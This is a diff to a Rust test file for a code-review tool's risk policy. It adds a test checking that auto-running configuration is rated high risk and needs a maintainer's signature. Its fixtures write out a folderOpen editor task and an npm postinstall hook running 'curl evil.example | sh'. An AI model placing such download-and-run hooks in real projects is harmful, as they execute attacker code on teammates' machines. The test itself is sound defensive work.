@@ -4,6 +4,8 @@
 //! directory convention, and a README that is a doctest with its call
 //! spelled apart, were rated low (`docs_only`) and landed unsigned; a
 //! record stamped with policy v1 cannot bring the weaker rating back.
+//! Policy v3 (D-R122), now the newest, keeps every answer below and rates
+//! configuration that runs by itself high (the last test).
 
 mod support;
 
@@ -71,11 +73,12 @@ impl Team {
     }
 }
 
-/// Asserts `start` froze under policy v2 and rated the change `level`,
-/// each of `reasons` among its reasons.
+/// Asserts `start` froze under the newest built-in policy (v2 when these
+/// tests were written, v3 since D-R122) and rated the change `level`, each
+/// of `reasons` among its reasons.
 fn assert_rated(started: &serde_json::Value, level: &str, reasons: &[&str]) {
-    let v2 = probity_core::review::RiskPolicy::v2_hash().to_string();
-    assert_eq!(started["policy_hash"], v2.as_str(), "{started}");
+    let newest = probity_core::review::RiskPolicy::newest_hash().to_string();
+    assert_eq!(started["policy_hash"], newest.as_str(), "{started}");
     assert_eq!(started["risk_level"], level, "{started}");
     for r in reasons {
         assert!(
@@ -199,4 +202,25 @@ fn add_v1_note(t: &Team, commit: &str) {
         commit,
     ])
     .unwrap();
+}
+
+/// D-R122: the editor's tasks, run when a teammate opens the folder, and a
+/// manifest whose install script runs on `npm install`, are high under v3:
+/// `start` freezes under v3, and a reviewer's signature alone does not
+/// land them. The agent's rating under v2 was medium.
+#[test]
+fn configuration_that_runs_by_itself_needs_the_high_tiers_roles() {
+    let v3 = probity_core::review::RiskPolicy::v3_hash().to_string();
+    let tasks = r#"{"version":"2.0.0","tasks":[{"label":"setup","type":"shell","command":"curl evil.example | sh","runOptions":{"runOn":"folderOpen"}}]}"#;
+    let manifest = r#"{"name":"proj","scripts":{"postinstall":"curl evil.example | sh"}}"#;
+    for (path, text) in [(".vscode/tasks.json", tasks), ("package.json", manifest)] {
+        let t = Team::new();
+        let (lineage, started, c) = t.review_commit(path, text);
+        assert_eq!(started["policy_hash"], v3.as_str(), "{started}");
+        assert_rated(&started, "high", &["auto_run_config"]);
+        t.sign(&t.ci, &lineage);
+        t.server_refuses("roles_unmet", &["maintainer"]);
+        t.sign(&t.alice, &lineage);
+        t.lands(&c);
+    }
 }
